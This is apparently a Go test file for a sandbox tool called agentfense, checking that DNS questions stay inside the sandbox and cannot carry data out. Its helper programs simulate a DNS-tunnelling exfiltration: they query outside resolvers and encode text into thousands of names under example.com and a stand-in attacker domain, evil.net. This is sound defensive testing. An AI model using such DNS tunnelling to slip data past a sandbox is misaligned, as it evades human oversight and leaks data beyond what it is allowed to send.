package network_test

import (
	"context"
	"crypto/tls"
	encoding "encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/agentfense/agentfense/test/harness"
)

const (
	resolveByThemselves = "resolve"
	tunnelNames         = "tunnel"
)

// resolve asks name servers of its own choice, and checks that each knows the allowed names alone.
func resolve([]string) int {
	var errs []error
	for _, server := range []string{"100.64.0.1:53", "8.8.8.8:53", "127.0.0.1:53", "[2001:4860:4860::8888]:53", "[::1]:53"} {
		for _, network := range []string{"udp", "tcp"} {
			r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
				return (&net.Dialer{}).DialContext(ctx, network, server)
			}}
			errs = append(errs, asks(r, server+" by "+network))
		}
	}
	if err := errors.Join(errs...); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	return 0
}

// asks checks what a name server answers.
func asks(r *net.Resolver, what string) error {
	ctx := context.Background()
	addrs, err := r.LookupHost(ctx, "example.com.")
	if err != nil || !slices.Equal(addrs, []string{"100.64.0.2"}) {
		return fmt.Errorf("%s: example.com: got %q, %w; want 100.64.0.2", what, addrs, err)
	}
	var missing *net.DNSError
	for _, name := range []string{"www.example.com.", "other.example.net.", strings.Repeat("secret.", 20) + "evil.net."} {
		if addrs, err := r.LookupHost(ctx, name); !errors.As(err, &missing) || !missing.IsNotFound {
			return fmt.Errorf("%s: %s: got %q, %w; want no such name", what, name, addrs, err)
		}
	}
	if texts, err := r.LookupTXT(ctx, "secret.evil.net."); !errors.As(err, &missing) || !missing.IsNotFound {
		return fmt.Errorf("%s: TXT: got %q, %w; want no such name", what, texts, err)
	}
	return nil
}

// The resolver answers at every address, over UDP and TCP, and asks nobody: no question for a name
// leaves the sandbox.
func TestQuestionsForNamesStayInside(t *testing.T) {
	internet(t)
	asked := world.NameServer(t, func(string) []string { return nil })
	eachUser(t, func(t *testing.T, who ...harness.Option) {
		s := harness.New(t, binary, nil, who...)
		r := s.RunProgram(resolveByThemselves, nil, "--allow-net", "example.com")
		if r.Code != 0 {
			t.Errorf("exit %d\n%s", r.Code, r.Stderr)
		}
		contains(t, "the audit log", s.Agentfense("audit", s.Name).Stdout,
			"www.example.com: not in the allowlist", "secret.evil.net: not in the allowlist", strings.Repeat("secret.", 20)+"evil.net: not in the allowlist")
	})
	if names := asked(); len(names) > 0 {
		t.Errorf("the host was asked for %q", names)
	}
}

// What a program may send in questions for names: those below an allowed domain, and others.
const (
	tunnelled   = 300
	mostBelow   = 256 // names of one rule
	floodOfName = 3000
	dialled     = "the-text-0.example.com" // the one that it connects to
)

// tunnel puts a text into the names that it asks for, and says how many have an address. It
// connects to one of them.
func tunnel([]string) int {
	c, err := net.Dial("tcp", "100.64.0.1:53")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	defer c.Close()
	for _, q := range []struct {
		domain string
		n      int
	}{{"example.com.", tunnelled}, {"evil.net.", floodOfName}} {
		known := 0
		for i := range q.n {
			is, err := hasAddress(c, fmt.Sprintf("the-text-%d.%s", i, q.domain))
			if err != nil {
				fmt.Fprintln(os.Stderr, err)
				return 1
			}
			if is {
				known++
			}
		}
		fmt.Println(q.domain, known)
	}
	over, err := tls.Dial("tcp", dialled+":443", &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	over.Close()
	return 0
}

// hasAddress asks over a connection to the resolver.
func hasAddress(c net.Conn, name string) (bool, error) {
	q, err := (&dnsmessage.Message{Questions: []dnsmessage.Question{
		{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET},
	}}).Pack()
	if err == nil {
		_, err = c.Write(append(encoding.BigEndian.AppendUint16(nil, uint16(len(q))), q...))
	}
	var size [2]byte
	if err == nil {
		_, err = io.ReadFull(c, size[:])
	}
	packet := make([]byte, encoding.BigEndian.Uint16(size[:]))
	if err == nil {
		_, err = io.ReadFull(c, packet)
	}
	var answer dnsmessage.Message
	if err == nil {
		err = answer.Unpack(packet)
	}
	return len(answer.Answers) > 0, err
}

// Names carry little: a wildcard covers few, only that of a connection is asked for outside, and
// every refused question is in the audit log, which keeps its budget.
func TestNamesAreNoTunnel(t *testing.T) {
	internet(t)
	const budget = 128 << 10
	t.Setenv("AGENTFENSE_AUDIT_MAX_BYTES_PER_SANDBOX", fmt.Sprint(budget))
	asked := world.NameServer(t, func(string) []string { return []string{"A " + harness.PublicAddr} })
	eachUser(t, func(t *testing.T, who ...harness.Option) {
		s := harness.New(t, binary, nil, who...)
		r := s.RunProgram(tunnelNames, nil, "--allow-net", "*.example.com")
		want(t, r, fmt.Sprintf("example.com. %d\nevil.net. 0\n", mostBelow))
		contains(t, "the summary", r.Stderr, "(others)")
		logs, err := filepath.Glob(filepath.Join(s.Home, "audit", "*.jsonl"))
		if err != nil || len(logs) != 1 {
			t.Fatalf("logs %v, %v", logs, err)
		}
		if info, err := os.Stat(logs[0]); err != nil || info.Size() > budget {
			t.Errorf("the log has %v bytes, %v, want %d at most", info.Size(), err, budget)
		}
		text := s.Agentfense("audit", s.Name, "--json").Stdout
		contains(t, "the audit log", text, "too many host names", "not in the allowlist")
		if n := countRefused(t, text); n != tunnelled-mostBelow+floodOfName {
			t.Errorf("the audit log counts %d refusals, want %d", n, tunnelled-mostBelow+floodOfName)
		}
	})
	names := asked()
	slices.Sort(names)
	if names = slices.Compact(names); !slices.Equal(names, []string{dialled}) {
		t.Errorf("the host was asked for %q", names)
	}
}

// countRefused sums the refusals that records of an audit log tell of or count.
func countRefused(t *testing.T, text string) (n int) {
	t.Helper()
	for line := range strings.Lines(text) {
		var r struct {
			Event  string
			Count  int
			Events []struct {
				Event string
				Count int
			}
		}
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		if r.Event == "network_denied" {
			n += r.Count
		}
		for _, e := range r.Events {
			n += e.Count
		}
	}
	return n
}
